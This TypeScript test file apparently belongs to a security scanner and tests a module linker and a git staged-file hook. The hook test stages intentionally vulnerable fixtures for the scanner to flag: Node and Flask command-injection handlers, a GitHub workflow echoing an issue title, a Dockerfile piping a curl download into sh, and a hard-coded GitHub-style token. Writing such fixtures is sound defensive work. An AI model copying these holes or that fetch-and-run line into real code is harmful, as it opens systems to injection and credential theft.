import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, expect, test } from 'vitest';
import { LinkError, linkModule } from '../../scripts/link/link-module.ts';
import { linkProgram } from '../../scripts/link/link-program.ts';
import { linkScan } from '../../scripts/link/link-scan.ts';
import { linkedPackage } from '../../src/platform/linked/linked-packages.ts';
import { openLinkedProgram } from '../../src/platform/linked/linked-program.ts';
import { linkedTextOf, moduleRoot } from '../../src/platform/linked/linked-text.ts';
import { createParser } from '../../src/scan/syntax/parser.ts';
import { runInProcess } from '../support/in-process-cli.ts';

const root = mkdtempSync(join(tmpdir(), 'lorekeep-linked-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

function writeFiles(folder: string, files: Record<string, string>): void {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(folder, path)), { recursive: true });
    writeFileSync(join(folder, path), text);
  }
}

/** Links modules and gives what one of them exports. */
async function run(files: Record<string, string>, entry: string): Promise<Record<string, unknown>> {
  const folder = mkdtempSync(join(root, 'modules-'));
  writeFiles(folder, files);
  const { text } = await linkProgram({ root: folder, entries: [entry], follows: () => true });
  const file = join(folder, 'program.js');
  writeFileSync(file, text);
  return openLinkedProgram(linkedTextOf(file))!.load(entry.replace(/\.ts$/, ''));
}

test('linked modules export what they export to Node: names, other names, passed on, and loaded later', async () => {
  const exports = await run(
    {
      'a.ts': `import { join as put } from 'node:path';
import * as all from './b/c.ts';
import { two as zwei, /* a comment */ type Kind } from './b/c.ts';
export { two as passedOn } from './b/c.ts';
export const { cut } = { cut: put('a', 'b') }, kind: Kind = 'é\u2028😀';
export class Box<T> { value?: T; static of = () => new Box(); }
export async function later(): Promise<unknown> { return (await import('./b/d.ts')).three + zwei + Object.keys(all).length; }
const own = import.meta.dirname.length > 0;
export { own as isHere };
export const expression = /[é]/u.test('é');
`,
      'b/c.ts': "export type Kind = string;\nexport const two = 2; // 'two'\n",
      'b/d.ts': 'export const three = 3;\n',
    },
    'a.ts',
  );
  expect(exports).toMatchObject({
    cut: 'a/b',
    kind: 'é\u2028😀',
    passedOn: 2,
    isHere: true,
    expression: true,
  });
  expect(Object.keys(exports).sort()).toEqual(
    ['Box', 'cut', 'expression', 'isHere', 'kind', 'later', 'passedOn'].sort(),
  );
  expect(await (exports['later'] as () => Promise<number>)()).toBe(6);
});

test('modules in a circle share functions, and nothing that is not there yet', async () => {
  const even = `import { odd } from './odd.ts';
export function even(n: number): boolean { return n === 0 || odd(n - 1); }
export const zero = 0;
`;
  const odd = (names: string) =>
    `import { ${names} } from './even.ts';\nexport function odd(n: number): boolean { return n !== 0 && even(n - 1); }\n`;
  const { even: isEven } = await run({ 'even.ts': even, 'odd.ts': odd('even') }, 'even.ts');
  expect((isEven as (n: number) => boolean)(10)).toBe(true);
  await expect(run({ 'even.ts': even, 'odd.ts': odd('even, zero') }, 'even.ts')).rejects.toThrow(LinkError);
});

test('what the linker does not know is refused, not guessed', async () => {
  const parser = await createParser();
  const links = { resolve: (specifier: string) => specifier, isLinked: () => true };
  const refused = [
    'export let count = 0;',
    'export default 1;',
    "export * from './a.ts';",
    "import a from './a.ts';",
    "import { default as a } from './a.ts';",
    'import(`./${process.platform}.ts`);',
    'export const [a] = [1];',
    'export const { a: { b } } = c;',
    'export const = 1;',
  ];
  for (const text of refused) expect(() => linkModule('m.ts', text, parser, links), text).toThrow(LinkError);
});

const token = ['ghp', 'q8Zr2LxVb7NcT4kWm9YdP1sHf6JgA3iMTQ2v'].join('_');
const injection = `const cp = require('node:child_process');
module.exports = (req, res) => cp.exec('ls ' + req.query.name, () => res.end());
`;
const staged: Record<string, string> = {
  'old.js': `${injection}// changed\n`,
  'new.js': injection,
  'clean.ts': 'export const one: number = 1;\n',
  'app.py':
    'import os\nfrom flask import request, Flask\napp = Flask(__name__)\n@app.route("/")\ndef f():\n    os.system("ls " + request.args["x"])\n',
  '.github/workflows/ci.yml': `on: issues\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "\${{ github.event.issue.title }}"\n`,
  Dockerfile: 'FROM node:latest\nRUN curl http://x.example.com/a.sh | sh\n',
  'deploy.env': `GITHUB_TOKEN=${token}\n`,
};

test('the linked hook finds exactly what is new to a scan of the whole folder against the last commit', async () => {
  const folder = mkdtempSync(join(root, 'repository-'));
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@example.com', ...args], { cwd: folder });
  git('init', '-q');
  writeFiles(folder, { 'old.js': injection, 'untouched.js': injection });
  git('add', '-A');
  git('commit', '-qm', 'x');
  writeFiles(folder, staged);
  git('add', '-A');

  const program = join(root, 'program.js');
  writeFileSync(program, (await linkScan(moduleRoot, 'ts')).text);
  const linked = openLinkedProgram(linkedTextOf(program))!;
  // The parser's library is part of it, as long as its file is the one that was linked.
  const { size } = statSync(createRequire(import.meta.url).resolve('web-tree-sitter'));
  expect(linkedPackage('web-tree-sitter', size)).toBeTypeOf('function');
  expect(linkedPackage('web-tree-sitter', size + 1)).toBeUndefined();
  const { runCli } = linked.load<typeof import('../../src/cli/main.ts')>('cli/main');
  const scan = async (run: typeof runCli | undefined, ...args: string[]) => {
    const { code, out } = await runInProcess(
      ['scan', folder, '--json', '--fail-on', 'high', ...args],
      { environment: { XDG_CACHE_HOME: join(root, 'cache') } },
      run,
    );
    const { findings } = JSON.parse(out) as { findings: Array<{ file: string; baselineState: string }> };
    return { code, findings: findings.filter(({ file }) => file in staged) };
  };
  const hook = await scan(runCli, '--staged');
  expect(hook).toEqual(await scan(undefined, '--baseline-ref', 'HEAD'));
  const filesOf = (state: string) =>
    new Set(hook.findings.filter((each) => each.baselineState === state).map(({ file }) => file));
  expect(filesOf('unchanged')).toEqual(new Set(['old.js']));
  expect(filesOf('new')).toEqual(
    new Set(Object.keys(staged).filter((file) => !['old.js', 'clean.ts'].includes(file))),
  );

  // With what is remembered of a first time, the answer is the same.
  const { setProgramIdentity } =
    linked.load<typeof import('../../src/platform/program-identity.ts')>('platform/program-identity');
  setProgramIdentity(linked.identity);
  const recent = join(root, 'cache', 'lorekeep', 'staged');
  expect(await scan(runCli, '--staged', '--no-cache')).toEqual(hook);
  expect(existsSync(recent)).toBe(false);
  expect(await scan(runCli, '--staged')).toEqual(hook);
  // Both versions of one file, one of each other; the one with a secret in it is not remembered.
  expect(readdirSync(recent)).toHaveLength(Object.keys(staged).length + 1 - 1);
  expect(await scan(runCli, '--staged')).toEqual(hook);
  for (const name of readdirSync(recent)) writeFileSync(join(recent, name), 'damaged');
  expect(await scan(runCli, '--staged')).toEqual(hook);
});
